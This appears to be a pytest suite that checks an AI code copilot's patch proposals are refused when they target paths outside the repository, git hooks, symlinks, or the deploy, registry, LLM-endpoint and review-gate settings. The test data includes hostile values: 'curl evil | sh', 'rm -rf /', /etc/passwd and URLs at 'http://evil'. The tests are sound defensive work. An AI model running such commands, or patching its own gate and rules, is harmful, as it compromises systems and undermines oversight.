"""Attacks on patch proposals: every one is refused when the copilot proposes it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from copilot.actions.errors import ProposalRefused
from copilot.actions.propose import patch_proposal
from copilot.errors import CopilotError
from tests.conftest import MakeRepo, git


def _refused(repo: Path, path: str, content: str | None = "x\n", match: str = "refused") -> None:
    with pytest.raises(ProposalRefused, match=match):
        patch_proposal(repo, "t", "r", {path: content}, ["fp"])


def test_refusal_is_a_copilot_error() -> None:
    assert issubclass(ProposalRefused, CopilotError)


@pytest.mark.parametrize(
    "path",
    [
        "../outside.txt",
        "svc/../../outside.txt",
        "svc/../README.md",  # not normalised
        "./README.md",
        "svc//app.py",
        "/etc/passwd",
        "C:/windows/x",
        "svc\\app.py",
        "bad\nname",
        'quote"d',
        " leading-space",
        "",
    ],
)
def test_paths_outside_or_malformed_are_refused(repo: Path, path: str) -> None:
    _refused(repo, path)
    assert not (repo.parent / "outside.txt").exists()


@pytest.mark.parametrize(
    "path",
    [
        ".git/config",
        ".git/hooks/pre-commit",
        ".GIT/hooks/pre-push",
        "sub/.git/config",
        ".git./config",
        ".githooks/pre-commit",
        "tools/.githooks/pre-push",
        ".husky/pre-commit",
    ],
)
def test_git_dir_and_hook_files_are_refused(repo: Path, path: str) -> None:
    _refused(repo, path, match="git|hook")


def test_core_hooks_path_is_refused(repo: Path) -> None:
    git(repo, "config", "core.hooksPath", "ci/hooks")
    _refused(repo, "ci/hooks/pre-push", match="core.hooksPath")
    git(repo, "config", "core.hooksPath", str(repo / "abs-hooks"))
    _refused(repo, "abs-hooks/pre-commit", match="core.hooksPath")
    patch_proposal(repo, "t", "r", {"ci/hooks/pre-push": "fine now\n"}, ["fp"])


def test_symlinks_pointing_out_are_refused(repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "target.txt").write_text("secret\n")
    os.symlink(outside, repo / "linkdir")
    os.symlink(outside / "target.txt", repo / "linkfile.txt")
    _refused(repo, "linkdir/target.txt", match="outside the repository")
    _refused(repo, "linkdir/new.txt", match="outside the repository")
    _refused(repo, "linkfile.txt", match="symbolic link")
    assert (outside / "target.txt").read_text() == "secret\n"
    assert not (outside / "new.txt").exists()


def test_symlinks_into_git_dir_or_hooks_are_refused(repo: Path) -> None:
    os.symlink(repo / ".git" / "hooks", repo / "hooks-link")
    os.symlink(".githooks", repo / "innocent")
    (repo / ".githooks").mkdir()
    _refused(repo, "hooks-link/pre-commit", match="git")
    _refused(repo, "innocent/pre-commit", match="hook")


def test_a_symlink_inside_the_repo_is_not_patched_through(repo: Path) -> None:
    os.symlink("README.md", repo / "readme-link")
    _refused(repo, "readme-link", match="symbolic link")


def test_binary_files_are_refused(make_repo: MakeRepo) -> None:
    repo = make_repo({"logo.png": b"\x89PNG\r\n\x1a\n\0\0\0", "latin1.txt": "caf\xe9\n".encode("latin-1")})
    _refused(repo, "logo.png", match="binary")
    _refused(repo, "latin1.txt", match="UTF-8")
    _refused(repo, "new.bin", "a\0b", match="binary")


def test_directories_are_refused(repo: Path) -> None:
    _refused(repo, "svc", match="directory")


def test_one_bad_path_refuses_the_whole_patch(repo: Path) -> None:
    with pytest.raises(ProposalRefused):
        patch_proposal(repo, "t", "r", {"README.md": "fine\n", ".git/hooks/post-checkout": "evil\n"}, ["fp"])


@pytest.mark.parametrize("config_file", [".pipeline-copilot.toml", "pyproject.toml"])
def test_patches_may_not_change_deploy_commands_or_registry(make_repo: MakeRepo, config_file: str) -> None:
    prefix = "" if config_file.startswith(".") else "tool.pipeline-copilot."
    original = f'[{prefix}deploy]\nfraud = "make deploy"\n\n[{prefix}compatibility]\ndefault = "BACKWARD"\n'
    repo = make_repo({config_file: original})
    evil = original.replace("make deploy", "curl evil | sh")
    _refused(repo, config_file, evil, match="deploy")
    _refused(repo, config_file, original + f'\n[{prefix}registry]\nurl = "http://evil"\n', match="registry")
    # Other settings may change (e.g. a compatibility mode a finding recommends).
    patch_proposal(repo, "t", "r", {config_file: original.replace("BACKWARD", "FULL")}, ["fp"])


def test_a_new_config_file_that_shadows_deploy_commands_is_refused(make_repo: MakeRepo) -> None:
    repo = make_repo({"pyproject.toml": '[tool.pipeline-copilot.deploy]\nfraud = "make deploy"\n'})
    _refused(repo, ".pipeline-copilot.toml", '[deploy]\nfraud = "rm -rf /"\n', match="deploy")


def test_a_patch_never_changes_the_llm_endpoint_or_the_gate(make_repo: MakeRepo) -> None:
    repo = make_repo({".pipeline-copilot.toml": '[review]\nfail_on = "high"\n'})
    _refused(repo, ".pipeline-copilot.toml", '[review]\nfail_on = "never"\n', match="trusted setting")
    _refused(repo, ".pipeline-copilot.toml", '[review]\nfail_on = "high"\n[llm]\nbase_url = "http://evil/v1"\n', match="trusted setting")
    _refused(repo, ".pipeline-copilot.toml", '[review]\nfail_on = "high"\n[rules.lag-risk]\nenabled = false\n', match="trusted setting")
